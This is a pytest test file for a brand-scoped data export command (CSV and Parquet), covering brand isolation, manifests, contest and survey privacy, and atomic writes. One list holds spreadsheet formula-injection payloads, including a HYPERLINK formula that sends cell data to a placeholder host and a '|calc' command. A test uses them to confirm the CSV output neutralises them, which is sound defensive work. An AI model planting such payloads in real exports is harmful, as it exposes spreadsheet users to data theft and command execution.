"""`rapport export`: files of the marts that say what they hold, of one brand, harmless in a spreadsheet."""

import csv
import json
from collections.abc import Callable
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import duckdb
import pytest
from sqlalchemy import event, text
from typer.testing import CliRunner, Result

from connectors import parquet
from connectors.config import Brand
from connectors.config_campaigns import Campaign, Contest
from connectors.errors import ConfigError
from deployments.cli.main import app
from tasks import export
from tasks.export import tables
from tasks.export_read import NAMES

Day = Callable[..., datetime]

ACME = Brand(slug="acme", name="Acme", timezone="Europe/London")
NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)
ROW = "2026-02-0{}T09:00:00Z"
BESIDE = {"campaign", "contest_entry", "poll_option"}
KINDS = {
    "date": "date", "text": "text", "integer": "int4", "bigint": "int8", "double": "float8",
    "timestamp": "timestamptz", "boolean": "bool",
}  # fmt: skip
HOSTILE = [
    "=HYPERLINK(\"http://x.example/?\"&A1)", "+1", "-2+3", "@SUM(A1)", "|calc", "%0a", "＝1+1", "  =1+1", "\t=1",
]  # fmt: skip


@pytest.fixture
def filled(community: Any, day: Day) -> Any:
    """Two brands with a week of talk each; other has said something that acme has not."""
    for brand in ("acme", "other"):
        rows = [
            (str(n), "", f"{brand}-{n}", "False", ROW.format(n), f"Where is parcel {n} of {brand}?")
            for n in range(1, 6)
        ]
        rows.append(("6", "", brand, "True", ROW.format(1), "The new tins are here."))
        community.write(rows, brand)
    with Path(community.config).open("a", encoding="utf-8") as file:
        file.write('[[brands.acme.events]]\nname = "Fair"\nfrom = 2026-02-03\n')
    for brand in ("acme", "other"):
        community.bring_in(day(1), day(8), brand=brand)
    return community


@pytest.fixture
def write(filled: Any) -> Callable[..., Any]:
    def run(
        form: export.Format = "csv", folder: str = "out", first: date = date.min, until: date = date.max
    ) -> Any:
        place = filled.folder / folder
        return export.export(filled.engine, ACME, place, form, None, first, until, NOW)

    return run


def rows_of(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def test_every_mart_can_be_exported(db: Any) -> None:
    query = "select table_name from information_schema.tables where table_schema = 'marts' order by 1"
    with db.connect() as connection:
        there = set(connection.execute(text(query)).scalars())
    assert there - {table.name for table in tables()} == set(), "give the new mart a file in sql/export"


@pytest.mark.parametrize("table", tables(), ids=lambda table: table.name)
def test_the_columns_are_those_that_the_header_describes(table: export.Table, db: Any) -> None:
    values = {"brand": "acme", "first_day": date.min, "until_day": date.max, **dict.fromkeys(NAMES, "[]")}
    query = f"select oid::int, typname from pg_type where typname in {tuple(KINDS.values())}"
    with db.connect() as connection:
        names = dict(connection.execute(text(query)).tuples().all())
        result = connection.execute(text(table.query), values)
        found = [(one.name, names[one.type_code]) for one in result.cursor.description]
    assert found == [(column.name, KINDS[column.type]) for column in table.columns]
    assert set(table.key) <= {column.name for column in table.columns}
    assert all(column.meaning for column in table.columns)


def test_the_files_hold_what_the_marts_hold_of_the_brand_and_of_no_other(write: Any, filled: Any) -> None:
    manifest = write()
    folder = filled.folder / "out"
    for entry in manifest["tables"]:
        if entry["table"] in BESIDE:
            continue
        query = f"select count(*) from marts.{entry['table']} where brand = 'acme'"
        assert len(rows_of(folder / entry["file"])) == entry["rows"] == filled.rows(query)[0][0]
        assert entry["rows"] > 0 or entry["table"] == "unknown_day"  # all of this brand was collected
    daily = rows_of(folder / "metric_daily.csv")
    assert {row["dimension_value"] for row in daily if row["dimension"] == "account"} <= {"export:acme"}


def test_campaigns_contests_and_polls_are_exported_as_they_stood_when_the_days_ended(filled: Any) -> None:
    span = {"from": date(2026, 2, 2), "until": date(2026, 2, 28)}
    brand = ACME.model_copy(
        update={
            "campaigns": (Campaign(name="Parcels", hashtags=["parcel"], **span),),
            "contests": (Contest(name="Find it", hashtag="parcel", opens="2026-02-02", closes="2026-02-28"),),
        }
    )
    with filled.engine.begin() as connection:
        for number in (2, 4):
            connection.execute(
                text(
                    "update core.interaction set hashtags = '{parcel}' where brand = 'acme' and native_id = :id"
                ),
                {"id": str(number)},
            )
        connection.execute(
            text("update core.interaction set kind = 'poll_vote', text = 'Blue', parent_native_id = '6',"
                 " thread_key = '6' where brand = 'acme' and native_id in ('3', '5')")
        )  # fmt: skip

    def write(until: date) -> dict[str, list[dict[str, str]]]:
        folder = filled.folder / f"until {until}"
        export.export(filled.engine, brand, folder, "csv", None, date(2026, 2, 1), until, NOW)
        return {name: rows_of(folder / f"{name}.csv") for name in BESIDE}

    early, late = write(date(2026, 2, 4)), write(date(2026, 2, 8))
    assert [(each["campaign"][0]["messages"], each["campaign"][0]["reach"]) for each in (early, late)] == [
        ("1", ""), ("2", ""),
    ]  # fmt: skip
    assert [row["native_id"] for row in late["contest_entry"]] == ["2", "4"]
    assert [row["native_id"] for row in early["contest_entry"]] == ["2"]
    assert [row["votes"] for each in (early, late) for row in each["poll_option"]] == ["1", "2"]
    assert late["poll_option"][0]["option"] == "Blue"


def test_what_is_not_exported_is_not_read(filled: Any) -> None:
    contest = Contest(name="Find it", hashtag="parcel", opens="2026-02-02", closes="2026-02-28")
    brand, read = ACME.model_copy(update={"contests": (contest,)}), list[str]()

    def write(*names: str) -> list[str]:
        read.clear()
        export.export(
            filled.engine,
            brand,
            filled.folder / "some",
            "csv",
            names,
            date(2026, 2, 1),
            date(2026, 2, 8),
            NOW,
        )
        return [statement for statement in read if "core." in statement]

    event.listen(filled.engine, "before_cursor_execute", lambda *told: read.append(told[2]))
    assert write("metric_daily", "mark") == []
    assert all("poll_vote" not in statement for statement in write("contest_entry"))
    assert any("poll_vote" in statement for statement in write("poll_option"))


def test_who_is_left_out_of_a_contest_is_not_named(filled: Any) -> None:
    contest = Contest(
        name="Find it", hashtag="parcel", opens="2026-02-02", closes="2026-02-28", excluded=("acme-2",)
    )
    with filled.engine.begin() as connection:
        connection.execute(
            text("update core.interaction set hashtags = '{parcel}' where brand = 'acme' and native_id = '2'")
        )
        connection.execute(text("update core.profile set handle = native_id where brand = 'acme'"))
    brand = ACME.model_copy(update={"contests": (contest,)})
    export.export(
        filled.engine, brand, filled.folder / "c", "csv", None, date(2026, 2, 1), date(2026, 2, 8), NOW
    )
    assert [row["reason"] for row in rows_of(filled.folder / "c" / "contest_entry.csv")] == [
        "left out by name"
    ]


def test_a_surveys_words_are_in_no_file(filled: Any) -> None:
    with filled.engine.begin() as connection:
        connection.execute(
            text("update core.interaction set kind = 'survey_answer', post_native_id = 'form/1',"
                 " text = 'Your number?: 555-' || native_id where brand = 'acme' and direction = 'inbound'")
        )  # fmt: skip
    export.export(
        filled.engine, ACME, filled.folder / "s", "csv", None, date(2026, 2, 1), date(2026, 2, 8), NOW
    )
    (row,) = rows_of(filled.folder / "s" / "poll_option.csv")
    assert (row["native_id"], row["question"], row["option"], row["votes"]) == (
        "form/1",
        "Your number?",
        "",
        "5",
    )
    assert not [path for path in (filled.folder / "s").iterdir() if "555-" in path.read_text()]


def test_the_manifest_says_zone_span_units_and_what_null_means(write: Any, filled: Any) -> None:
    write()
    manifest = json.loads((filled.folder / "out" / "manifest.json").read_text())
    assert (manifest["brand"], manifest["time_zone"], manifest["format"]) == ("acme", "Europe/London", "csv")
    assert manifest["computed_through"] == "2026-02-08T00:00:00+00:00"
    daily = next(one for one in manifest["tables"] if one["table"] == "metric_daily")
    meanings = {column["name"]: column["meaning"] for column in daily["columns"]}
    assert "brand's time zone" in meanings["day"]
    assert "null" in meanings["value"]
    units = {one["metric"]: one["unit"] for one in manifest["metrics"]}
    assert units["first_reply_time"].startswith("seconds")


def test_only_the_days_asked_for_are_in_the_files(write: Any, filled: Any) -> None:
    write(first=date(2026, 2, 3), until=date(2026, 2, 5))
    days = {row["day"] for row in rows_of(filled.folder / "out" / "metric_daily.csv")}
    assert days == {"2026-02-03", "2026-02-04"}


def test_parquet_holds_the_same_with_types_and_meanings(write: Any, filled: Any) -> None:
    write()
    manifest = write("parquet", "it's [a] *folder*")
    for entry in manifest["tables"]:
        file = filled.folder / "it's [a] *folder*" / entry["file"]
        moved = file.rename(filled.folder / entry["file"])
        same = rows_of(filled.folder / "out" / f"{entry['table']}.csv")
        relation = duckdb.sql(f"select * from '{moved}'")
        assert relation.columns == [column["name"] for column in entry["columns"]]
        assert len(relation.fetchall()) == len(same) == entry["rows"]
    daily = f"'{filled.folder / 'metric_daily.parquet'}'"
    ((kind, value),) = duckdb.sql(f"select typeof(day), typeof(value) from {daily} limit 1").fetchall()
    assert (kind, value) == ("DATE", "DOUBLE")
    ((unknown,),) = duckdb.sql(f"select count(*) from {daily} where value is null").fetchall()
    assert unknown == sum(not row["value"] for row in rows_of(filled.folder / "out" / "metric_daily.csv")) > 0
    ((about,),) = duckdb.sql(f"select decode(value) from parquet_kv_metadata({daily})").fetchall()
    assert json.loads(about)["brand"] == "acme"


def test_what_a_spreadsheet_takes_for_a_formula_is_made_a_text_and_parquet_keeps_it(
    write: Any, filled: Any
) -> None:
    harmless = ["fine", "a=b", "", "5 − 3", "naïve 🙂", 'two\nlines, "quoted"', "{a}", "100%"]
    with filled.engine.begin() as connection:
        connection.execute(
            text(
                "insert into marts.metric_daily (brand, day, metric, dimension, dimension_value, value,"
                " definition_version) select 'acme', date '2026-02-05', 'x', 'word', w, -1.5, 1 from unnest(:words) w"
            ),
            {"words": HOSTILE + harmless},
        )
    write()
    write("parquet", "raw")
    rows = [row for row in rows_of(filled.folder / "out" / "metric_daily.csv") if row["metric"] == "x"]
    assert {row["dimension_value"] for row in rows} == {f"'{word}" for word in HOSTILE} | set(harmless)
    assert {row["value"] for row in rows} == {"-1.5"}
    raw = duckdb.sql(
        f"select dimension_value from '{filled.folder / 'raw' / 'metric_daily.parquet'}' where metric = 'x'"
    )
    assert {word for (word,) in raw.fetchall()} == set(HOSTILE + harmless)


def test_again_gives_the_same_files_and_leaves_nothing_beside_them(write: Any, filled: Any) -> None:
    first, second = write(), write()
    assert first == second
    names = sorted(path.name for path in (filled.folder / "out").iterdir())
    assert names == sorted([*(f"{table.name}.csv" for table in tables()), "manifest.json"])


@pytest.mark.parametrize("form", ["csv", "parquet"])
def test_an_export_that_was_cut_short_has_no_manifest_and_no_half_file(
    write: Any, filled: Any, monkeypatch: pytest.MonkeyPatch, form: export.Format
) -> None:
    write(form)
    whole = (filled.folder / "out" / f"metric_daily.{form}").read_bytes()

    def breaks(*_: Any) -> int:
        raise OSError("no space left on device")

    monkeypatch.setattr(export.warehouse, "copy_csv", breaks)
    with pytest.raises(OSError, match="no space"):
        write(form)
    assert not (filled.folder / "out" / "manifest.json").exists()
    assert (filled.folder / "out" / f"metric_daily.{form}").read_bytes() == whole
    assert not list((filled.folder / "out").glob(".*"))


def test_without_the_library_parquet_says_what_to_install(
    write: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(__import__("sys").modules, "duckdb", None)
    with pytest.raises(ConfigError, match=r"pip install -e '\.\[parquet\]'"):
        write("parquet")


def test_only_the_types_that_parquet_knows_are_named() -> None:
    assert {column.type for table in tables() for column in table.columns} <= set(parquet.TYPES)


def call(filled: Any, *arguments: str) -> Result:
    return CliRunner().invoke(app, ["--config", filled.config, "export", *arguments])


def test_the_command_gives_each_brand_a_folder_of_its_own(filled: Any) -> None:
    result = call(filled, "--to", str(filled.folder / "all"), "--table", "metric_daily", "--json")
    assert result.exit_code == 0, result.output
    assert sorted(json.loads(result.stdout)) == ["acme", "other"]
    files = sorted(str(p.relative_to(filled.folder / "all")) for p in (filled.folder / "all").rglob("*.*"))
    assert files == [
        "acme/manifest.json",
        "acme/metric_daily.csv",
        "other/manifest.json",
        "other/metric_daily.csv",
    ]
    plain = call(filled, "--brand", "acme", "--format", "parquet")
    assert "metric_daily.parquet: " in plain.stdout


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (("--table", "core.member"), "metric_daily"),
        (("--start", "yesterday"), "is not a day"),
        (("--start", "2026-02-02", "--end", "2026-02-02"), "not after"),
        (("--format", "xlsx"), "'parquet'"),
        (("--brand", "nobody"), "acme"),
    ],
)
def test_wrong_usage_is_refused_in_words(filled: Any, arguments: tuple[str, ...], words: str) -> None:
    result = call(filled, *arguments)
    assert result.exit_code != 0
    assert words in result.output + str(result.exception)
